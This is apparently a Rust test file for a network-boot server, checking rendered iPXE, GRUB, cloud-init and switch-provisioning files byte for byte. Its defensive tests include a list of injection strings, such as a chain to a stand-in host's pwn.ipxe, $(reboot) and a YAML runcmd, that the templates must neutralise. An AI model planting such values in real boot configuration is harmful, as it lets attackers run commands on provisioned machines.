//! Golden tests: whole rendered files, compared byte for byte.

use super::*;

fn context() -> BootContext {
    let server = "http://10.77.0.1:8080".to_string();
    let token = "tok123".to_string();
    let seed = format!("{server}/config/{token}/");
    BootContext {
        machine: MachineCtx {
            mac: "52:54:00:00:00:01".into(),
            mac_hyphen: "52-54-00-00-00-01".into(),
            mac_hex: "525400000001".into(),
            ip: Some("10.77.0.50".into()),
            hostname: "node1".into(),
            uuid: Some("8a9d6a2e-0000-4000-8000-525400000001".into()),
            serial: None,
            arch: Some("x86_64".into()),
            platform: Some("pcbios".into()),
            labels: BTreeMap::from([("rack".to_string(), "r7".to_string())]),
            group: "default".into(),
        },
        group: GroupCtx {
            name: "default".into(),
            vars: serde_json::json!({ "ntp": "10.77.0.1" }),
        },
        generation: Some(GenerationCtx {
            stream: "worker".into(),
            number: 41,
            digest: "ab".repeat(32),
        }),
        image: Some(ImageCtx {
            arch: "x86_64".into(),
            kernel: ArtifactCtx {
                name: "vmlinuz".into(),
                url: format!("{server}/artifacts/sha256/{}", "11".repeat(32)),
                tftp: format!("(tftp,10.77.0.1)/artifacts/sha256/{}", "11".repeat(32)),
                sha256: "11".repeat(32),
                size: 8_000_000,
            },
            initrds: vec![ArtifactCtx {
                name: "initrd.img".into(),
                url: format!("{server}/artifacts/sha256/{}", "22".repeat(32)),
                tftp: format!("(tftp,10.77.0.1)/artifacts/sha256/{}", "22".repeat(32)),
                sha256: "22".repeat(32),
                size: 1_400_000,
            }],
            rootfs: None,
            root: None,
            cmdline: "console=ttyS0".into(),
        }),
        source: Some("group".into()),
        reason: None,
        urls: UrlsCtx {
            server: server.clone(),
            seed: seed.clone(),
            config: seed,
            phone_home: format!("{server}/phone-home/{token}"),
            tftp: "(tftp,10.77.0.1)".into(),
        },
        boot: BootCtx {
            id: 7,
            token,
            instance_id: "ironboot-525400000001-7".into(),
        },
    }
}

#[test]
fn machine_script_golden() {
    let r = Renderer::embedded().unwrap();
    let text = r.render(MACHINE_IPXE, &context()).unwrap();
    let k = "11".repeat(32);
    let i = "22".repeat(32);
    let d = "ab".repeat(32);
    let want = format!(
        "#!ipxe
# ironboot: 52:54:00:00:00:01 boots worker generation 41 (group)
# image   sha256:{d}
# kernel  sha256:{k} 8000000 bytes
# initrd0 sha256:{i} 1400000 bytes
# Artifact URLs are content-addressed: the path is the sha256 of the bytes.
echo ironboot: 52:54:00:00:00:01 -> worker gen 41 (boot 7)
set attempt:int8 0
:load
imgfree
kernel --name vmlinuz http://10.77.0.1:8080/artifacts/sha256/{k} console=ttyS0 ds=nocloud-net;s=http://10.77.0.1:8080/config/tok123/ initrd=initrd0 || goto retry
initrd --name initrd0 http://10.77.0.1:8080/artifacts/sha256/{i} || goto retry
boot || goto retry
:retry
inc attempt
iseq ${{attempt}} 5 && goto give_up ||
echo ironboot: loading failed (attempt ${{attempt}} of 5); retrying in 5 s
sleep 5
goto load
:give_up
echo ironboot: could not load worker gen 41; trying the next boot device
sleep 10
exit 1"
    );
    assert_eq!(text, want);
}

#[test]
fn grub_config_golden() {
    let r = Renderer::embedded().unwrap();
    let mut ctx = context();
    ctx.machine.arch = Some("arm64".into());
    let text = r.render(MACHINE_GRUB, &ctx).unwrap();
    let k = "11".repeat(32);
    let i = "22".repeat(32);
    let d = "ab".repeat(32);
    let want = format!(
        "# ironboot: 52:54:00:00:00:01 boots worker generation 41 (group)
# image   sha256:{d}
# kernel  sha256:{k} 8000000 bytes
# initrd0 sha256:{i} 1400000 bytes
# GRUB netboot has no HTTP: kernel and initrds come over TFTP, by digest.
# Each argument is quoted on its own: GRUB would pass one quoted argument
# holding spaces to the kernel with its quotes.
set timeout=0
echo 'ironboot: 52:54:00:00:00:01 -> worker gen 41 (boot 7)'
linux (tftp,10.77.0.1)/artifacts/sha256/{k} 'console=ttyS0' 'ds=nocloud-net;s=http://10.77.0.1:8080/config/tok123/'
initrd (tftp,10.77.0.1)/artifacts/sha256/{i}
boot
echo 'ironboot: could not boot worker gen 41; trying the next boot device'
sleep 10
exit"
    );
    assert_eq!(text, want);

    let mut nothing = context();
    nothing.generation = None;
    nothing.image = None;
    nothing.reason = Some("worker gen 41 is an x86_64 image but this machine runs arm64".into());
    assert_eq!(
        r.render(NOTHING_GRUB, &nothing).unwrap(),
        "# ironboot: nothing to boot for 52:54:00:00:00:01
echo 'ironboot: nothing to boot for 52:54:00:00:00:01: worker gen 41 is an x86_64 image but this machine runs arm64'
echo 'ironboot: trying the next boot device in 10 s'
sleep 10
exit"
    );

    // A value that would end GRUB's quoting is encoded: it stays inside
    // its quoted arguments.
    let mut quoted = context();
    if let Some(image) = quoted.image.as_mut() {
        image.cmdline = "console=ttyS0' ; reboot '".into();
    }
    let text = r.render(MACHINE_GRUB, &quoted).unwrap();
    assert!(
        text.contains(" 'console=ttyS0%27' '%3B' 'reboot' '%27' "),
        "{text}"
    );

    #[derive(serde::Serialize)]
    struct Urls {
        server: &'static str,
        tftp: &'static str,
    }
    #[derive(serde::Serialize)]
    struct Generic {
        urls: Urls,
    }
    let generic = r
        .render(
            GRUB_CFG,
            &Generic {
                urls: Urls {
                    server: "http://10.77.0.1:8080",
                    tftp: "(tftp,10.77.0.1)",
                },
            },
        )
        .unwrap();
    assert!(generic.contains("configfile (tftp,10.77.0.1)/grub/grub.cfg-01-${net_default_mac}\n"));
}

#[test]
fn ztp_files_render() {
    let r = Renderer::embedded().unwrap();
    let ctx = context();
    let cumulus = r.render("ztp/cumulus.sh", &ctx).unwrap();
    assert!(cumulus.starts_with("#!/bin/bash\n# CUMULUS-AUTOPROVISIONING\n"));
    assert!(cumulus.contains("\nPHONE_HOME=http://10.77.0.1:8080/phone-home/tok123\n"));
    assert!(cumulus.contains("\"$PHONE_HOME\""));
    let sonic: serde_json::Value =
        serde_json::from_str(&r.render("ztp/ztp.json", &ctx).unwrap()).unwrap();
    assert_eq!(
        sonic["ztp"]["01-provisioning-script"]["plugin"]["url"],
        "http://10.77.0.1:8080/ztp/52-54-00-00-00-01/cumulus.sh"
    );
}

#[test]
fn nothing_and_boot_ipxe_golden() {
    let r = Renderer::embedded().unwrap();
    let mut ctx = context();
    ctx.generation = None;
    ctx.image = None;
    ctx.reason = Some("group default points at no generation".into());
    let text = r.render(NOTHING_IPXE, &ctx).unwrap();
    assert_eq!(
        text,
        "#!ipxe
# ironboot: nothing to boot for 52:54:00:00:00:01
echo ironboot: nothing to boot for 52:54:00:00:00:01: group default points at no generation
echo ironboot: trying the next boot device in 10 s
sleep 10
iseq ${platform} pcbios && sanboot --no-describe --drive 0x80 ||
exit 1"
    );
    let boot = r
        .render(
            BOOT_IPXE,
            &ServerContext {
                urls: ServerUrls {
                    server: "http://10.77.0.1:8080".into(),
                },
            },
        )
        .unwrap();
    assert!(boot.starts_with("#!ipxe\n"));
    assert!(boot.contains(
        "chain --autofree http://10.77.0.1:8080/boot/${mac:hexhyp}.ipxe?uuid=${uuid}&serial=${serial:uristring}&asset=${asset:uristring}&buildarch=${buildarch}&platform=${platform}&chip=${net0/chip} || goto failed"
    ));
}

#[test]
fn cloud_init_files_golden() {
    let r = Renderer::embedded().unwrap();
    let ctx = context();
    assert_eq!(
        r.config_files(),
        ["ignition.json", "meta-data", "user-data", "vendor-data"]
    );
    assert_eq!(
        r.render_config("meta-data", &ctx).unwrap().unwrap(),
        "instance-id: ironboot-525400000001-7\nlocal-hostname: node1"
    );
    assert_eq!(
        r.render_config("user-data", &ctx).unwrap().unwrap(),
        "#cloud-config
# Rendered by ironboot for 52:54:00:00:00:01: worker generation 41.
hostname: node1
# cloud-init's phone_home module confirms this boot to ironboot; only then is
# the generation current (and last good) for this machine.
phone_home:
  url: http://10.77.0.1:8080/phone-home/tok123
  post: all
  tries: 10"
    );
    let ign: serde_json::Value =
        serde_json::from_str(&r.render_config("ignition.json", &ctx).unwrap().unwrap()).unwrap();
    assert_eq!(ign["ignition"]["version"], "3.4.0");
    assert_eq!(
        ign["storage"]["files"][0]["contents"]["source"],
        "data:,node1"
    );
    assert!(
        r.render_config("network-config", &ctx).is_none(),
        "absent optional files are 404s"
    );
}

#[test]
fn strict_undefined_and_control_characters_fail_the_render() {
    let r = Renderer::embedded().unwrap();
    let mut ctx = context();
    ctx.image.as_mut().unwrap().cmdline = "console=ttyS0\nchain http://evil/".into();
    let err = r.render(MACHINE_IPXE, &ctx).unwrap_err().to_string();
    assert!(err.contains("control character"), "{err}");

    let err = r
        .render_cmdline("console=ttyS0 {{ nope }}", &context())
        .unwrap_err()
        .to_string();
    assert!(err.contains("undefined"), "{err}");
    let mut ctx = context();
    ctx.machine.hostname = "a\rb".into();
    let err = r
        .render_cmdline("hostname={{ machine.hostname }}", &ctx)
        .unwrap_err()
        .to_string();
    assert!(err.contains("control character"), "{err}");
    assert_eq!(
        r.render_cmdline(
            "  console=ttyS0   ip=dhcp\n  rack={{ machine.labels.rack }} ",
            &context()
        )
        .unwrap(),
        "console=ttyS0 ip=dhcp rack=r7",
        "template newlines are whitespace; values are checked"
    );
}

#[test]
fn cmdline_templates_compile_once_and_each_text_keeps_its_meaning() {
    let r = Renderer::embedded().unwrap();
    let mut ctx = context();
    let a = "rack={{ machine.labels.rack }}";
    let b = "host={{ machine.hostname }}";
    assert_eq!(r.render_cmdline(a, &ctx).unwrap(), "rack=r7");
    assert_eq!(
        r.render_cmdline(b, &ctx).unwrap(),
        format!("host={}", ctx.machine.hostname)
    );
    // The cached template sees the new context, and a broken template
    // fails every time, not only the first.
    ctx.machine.labels.insert("rack".into(), "r9".into());
    assert_eq!(r.render_cmdline(a, &ctx).unwrap(), "rack=r9");
    for _ in 0..2 {
        assert!(r.render_cmdline("{{ nope }}", &ctx).is_err());
    }
}

#[test]
fn an_operator_directory_replaces_the_embedded_templates() {
    let dir = tempfile::TempDir::new().unwrap();
    std::fs::create_dir_all(dir.path().join("ipxe")).unwrap();
    std::fs::create_dir_all(dir.path().join("config")).unwrap();
    std::fs::write(
        dir.path().join("boot.ipxe"),
        "#!ipxe\nchain {{ urls.server }}/x\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("ipxe/machine.ipxe"),
        "#!ipxe\necho {{ machine.hostname }}\n",
    )
    .unwrap();
    std::fs::write(dir.path().join("ipxe/nothing.ipxe"), "#!ipxe\nexit\n").unwrap();
    std::fs::write(
        dir.path().join("config/motd"),
        "hello {{ machine.hostname }} in {{ group.vars.ntp }}\n",
    )
    .unwrap();
    let r = Renderer::from_dir(dir.path()).unwrap();
    assert_eq!(
        r.render(MACHINE_IPXE, &context()).unwrap(),
        "#!ipxe\necho node1"
    );
    assert_eq!(
        r.render_config("motd", &context()).unwrap().unwrap(),
        "hello node1 in 10.77.0.1"
    );
    std::fs::remove_file(dir.path().join("ipxe/nothing.ipxe")).unwrap();
    assert!(matches!(
        Renderer::from_dir(dir.path()),
        Err(RenderError::Missing(_))
    ));
}

/// The hostile strings of the boot-network issue, each rendered through
/// every machine fact, group variable and reason into every template; the
/// file must keep the structure it has with an ordinary value (no new
/// command, line, key or quote), or the render must be refused.
const HOSTILE: &[&str] = &[
    "x\ntouch /tmp/P\n#",
    "x ; chain http://198.51.100.66/pwn.ipxe ; #",
    "$(reboot)",
    "`id`",
    "' ; reboot ; '",
    "\"}, \"x\": \"",
    "${net0/mac}",
    "a || shell",
    "a && shell",
    "# comment",
    "\u{0}",
    "\r\n",
    "{{ 7*7 }}",
    "#cloud-config",
    "key: value\nruncmd: [reboot]",
    "key: value",
    "- item",
    "--- !!python/object",
    "\\",
    "☃",
    "it's",
];

/// A context whose every client- or operator-written string is `v`.
fn hostile_context(v: &str) -> BootContext {
    let mut ctx = context();
    ctx.machine.hostname = v.into();
    ctx.machine.serial = Some(v.into());
    ctx.machine.uuid = Some(v.into());
    ctx.machine.arch = Some(v.into());
    ctx.machine.platform = Some(v.into());
    ctx.machine.labels = BTreeMap::from([("rack".to_string(), v.to_string())]);
    ctx.group.vars = serde_json::json!({ "ntp": v });
    ctx.reason = Some(v.into());
    ctx
}

/// The structure of a rendered file in its language: what a hostile value
/// must not change.
fn structure(language: Language, text: &str) -> Result<String, String> {
    match language {
        Language::Json => {
            let v: serde_json::Value = serde_json::from_str(text).map_err(|e| e.to_string())?;
            Ok(shape_json(&v))
        }
        Language::Yaml => {
            use saphyr::LoadableYamlNode;
            let docs = saphyr::Yaml::load_from_str(text).map_err(|e| e.to_string())?;
            let shapes: Vec<String> = docs.iter().map(shape_yaml).collect();
            Ok(format!("{} docs: {}", docs.len(), shapes.join(" | ")))
        }
        Language::Ipxe | Language::Cmdline => Ok(text
            .lines()
            .map(|line| {
                let words: Vec<&str> = line.split_whitespace().collect();
                let comment = words.iter().position(|w| w.starts_with('#'));
                let code = &words[..comment.unwrap_or(words.len())];
                let terminators = code
                    .iter()
                    .filter(|w| matches!(**w, ";" | "||" | "&&"))
                    .count();
                let expansions = code.iter().map(|w| w.matches("${").count()).sum::<usize>();
                format!("{terminators}/{comment:?}/{expansions}")
            })
            .collect::<Vec<_>>()
            .join("\n")),
        Language::Grub | Language::Shell | Language::Text => Ok(text
            .lines()
            .map(|line| {
                // Outside single quotes, the characters that make structure.
                let (mut quoted, mut specials) = (false, String::new());
                for c in line.chars() {
                    match c {
                        '\'' => quoted = !quoted,
                        c if !quoted && ";|&$`<>\"\\#".contains(c) => specials.push(c),
                        _ => {}
                    }
                }
                format!("{specials}{}", if quoted { " unbalanced" } else { "" })
            })
            .collect::<Vec<_>>()
            .join("\n")),
    }
}

fn shape_json(v: &serde_json::Value) -> String {
    match v {
        serde_json::Value::Object(m) => {
            let fields: Vec<String> = m
                .iter()
                .map(|(k, v)| format!("{k}:{}", shape_json(v)))
                .collect();
            format!("{{{}}}", fields.join(","))
        }
        serde_json::Value::Array(a) => {
            format!(
                "[{}]",
                a.iter().map(shape_json).collect::<Vec<_>>().join(",")
            )
        }
        _ => "v".into(),
    }
}

fn shape_yaml(v: &saphyr::Yaml) -> String {
    match v {
        saphyr::Yaml::Mapping(m) => {
            let fields: Vec<String> = m
                .iter()
                .map(|(k, v)| format!("{}:{}", k.as_str().unwrap_or("?"), shape_yaml(v)))
                .collect();
            format!("{{{}}}", fields.join(","))
        }
        saphyr::Yaml::Sequence(a) => {
            format!(
                "[{}]",
                a.iter().map(shape_yaml).collect::<Vec<_>>().join(",")
            )
        }
        _ => "v".into(),
    }
}

#[test]
fn hostile_values_are_inert_in_every_template() {
    let r = Renderer::embedded().unwrap();
    let templates: Vec<String> = r.names();
    let mut checked = 0;
    for name in &templates {
        let language = Language::of(name);
        let shaped = |ctx: BootContext| -> Option<Result<String, String>> {
            let mut ctx = ctx;
            if name.contains("nothing") {
                ctx.generation = None;
                ctx.image = None;
            }
            r.render(name, &ctx).ok().map(|t| structure(language, &t))
        };
        let want = shaped(hostile_context("ordinary"))
            .unwrap_or_else(|| panic!("{name} renders with ordinary values"))
            .unwrap_or_else(|e| panic!("{name} parses with ordinary values: {e}"));
        for v in HOSTILE {
            match shaped(hostile_context(v)) {
                None => {} // refused: the machine is told the render failed
                Some(Ok(got)) => assert_eq!(got, want, "{name} ({language:?}) with {v:?}"),
                Some(Err(e)) => panic!("{name} with {v:?} no longer parses: {e}"),
            }
            checked += 1;
        }
    }
    // And an image command line, as iPXE and GRUB both receive it.
    for v in HOSTILE {
        let ctx = hostile_context(v);
        let template = "console=ttyS0 host={{ machine.hostname }} s={{ machine.serial }}";
        if let Ok(line) = r.render_cmdline(template, &ctx) {
            assert_eq!(
                line.split(' ').count(),
                3,
                "{v:?} stays inside its arguments: {line}"
            );
            assert!(!line.contains("${") && !line.contains('#'), "{line}");
        }
        checked += 1;
    }
    assert!(checked > 150, "{checked}");
}

#[test]
fn yaml_values_read_back_exactly() {
    use saphyr::LoadableYamlNode;
    let r = Renderer::embedded().unwrap();
    let values = HOSTILE
        .iter()
        .copied()
        .chain(["node1", "true", "web-01.lab"])
        .filter(|v| !v.is_empty());
    for v in values {
        let text = r.render("config/meta-data", &hostile_context(v)).unwrap();
        let docs = saphyr::Yaml::load_from_str(&text).unwrap();
        assert_eq!(docs[0]["local-hostname"].as_str(), Some(v), "{text}");
    }
}
